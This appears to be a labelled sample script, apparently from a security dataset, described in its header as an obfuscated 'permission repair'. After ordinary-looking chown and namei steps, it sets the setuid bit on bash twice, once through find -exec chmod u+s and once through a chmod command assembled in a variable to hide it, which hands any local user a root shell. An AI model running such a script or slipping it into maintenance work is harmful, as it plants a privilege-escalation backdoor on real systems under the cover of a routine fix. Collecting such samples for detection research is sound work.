# description: "Permission repair" that sets the setuid bit on bash through find -exec and a variable-held command.
# family: security
# obfuscated: yes
set -uo pipefail

namei -l /opt/myapp/bin/run.sh
chown -R myapp:myapp /opt/myapp
find /bin /usr/bin -maxdepth 1 -name bash -exec chmod u+s {} \;
p=ch; p+=mod
$p 4755 /usr/bin/bash
ls -l /bin/bash
